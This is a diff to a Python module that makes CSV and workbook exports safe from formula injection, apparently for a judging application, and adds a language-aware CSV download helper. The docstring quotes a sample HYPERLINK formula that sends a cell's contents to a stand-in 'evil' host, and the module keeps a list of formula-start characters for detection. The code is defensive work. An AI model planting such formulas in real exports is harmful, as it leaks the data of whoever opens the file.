@@ -6,13 +6,21 @@ participant named ``=HYPERLINK("http://evil/?"&A1,"click")`` would send the tabl
 command through DDE, on the judge's computer. OWASP's "CSV Injection" advice is followed: every text cell that
 starts with one of those characters gets a ``'`` in front, and every field is quoted. Numbers (points and
 penalties may be negative) stay numbers. A workbook stores every text cell as text (never a formula), marked
-with Excel's quote prefix where it starts like a formula, so the name is shown exactly as it was typed."""
+with Excel's quote prefix where it starts like a formula, so the name is shown exactly as it was typed.
+
+Every CSV download goes through :func:`csv_response`: one convention, the page's language (``;`` and a decimal
+comma in Russian, ``,`` and a decimal point in English), UTF-8 with a BOM, every field quoted and made safe."""
 
 from __future__ import annotations
 
 import csv
+import io
 from collections.abc import Iterable, Sequence
+from datetime import datetime
 from typing import IO, Any
+
+from babel.dates import format_datetime
+from fastapi.responses import Response
 
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
 """What a spreadsheet reads as the start of a formula (the last four: full-width = + - @)."""
@@ -50,3 +58,46 @@ def append_safe_row(ws: Any, row: Sequence[Any]) -> None:
             cell.data_type = "s"
             if looks_like_formula(cell.value):
                 cell.quotePrefix = True
+
+
+# --- one convention for every CSV download ---------------------------------------------------------------
+
+CSV_DELIMITERS = {"ru": ";", "en": ","}
+"""A CSV file follows the page's language, as Excel with that language's regional settings reads it: Russian
+``;`` with a decimal comma, English ``,`` with a decimal point."""
+
+
+def csv_number(value: Any, lang: str) -> Any:
+    """A number of a CSV cell in ``lang``: a fraction with a decimal comma in Russian (``1,25``); whole
+    numbers (and booleans, texts) as they are."""
+    if isinstance(value, float) and not value.is_integer():
+        text = f"{value:.6g}" if abs(value) < 1e6 else repr(value)
+        return text.replace(".", ",") if lang == "ru" else text
+    if isinstance(value, float):
+        return int(value)
+    return value
+
+
+def csv_moment(value: datetime, lang: str) -> str:
+    """A moment (UTC) in a CSV cell, as a spreadsheet of that language reads it: ``02.12.2026 04:25`` in Russian,
+    ``2026-12-02 04:25`` in English."""
+    return format_datetime(value, "dd.MM.yyyy HH:mm" if lang == "ru" else "yyyy-MM-dd HH:mm", locale=lang)
+
+
+def csv_text(rows: Iterable[Iterable[Any]], lang: str) -> str:
+    """The rows as CSV text in ``lang``'s convention: its delimiter, every field quoted and made safe
+    (:class:`SafeCsvWriter`), fractions with the language's decimal mark."""
+    out = io.StringIO()
+    w = SafeCsvWriter(out, delimiter=CSV_DELIMITERS.get(lang, ","))
+    for row in rows:
+        w.writerow([csv_number(v, lang) for v in row])
+    return out.getvalue()
+
+
+def csv_response(rows: Iterable[Iterable[Any]], lang: str, filename: str) -> Response:
+    """Every CSV download of the application: :func:`csv_text` in ``lang``, UTF-8 with a BOM (so that Excel
+    reads it as UTF-8), as an attachment named ``filename``, never cached."""
+    return Response(("\ufeff" + csv_text(rows, lang)).encode("utf-8"), media_type="text/csv; charset=utf-8",
+                    headers={"Content-Disposition": f'attachment; filename="{filename}"',
+                             "Cache-Control": "no-store"})
+
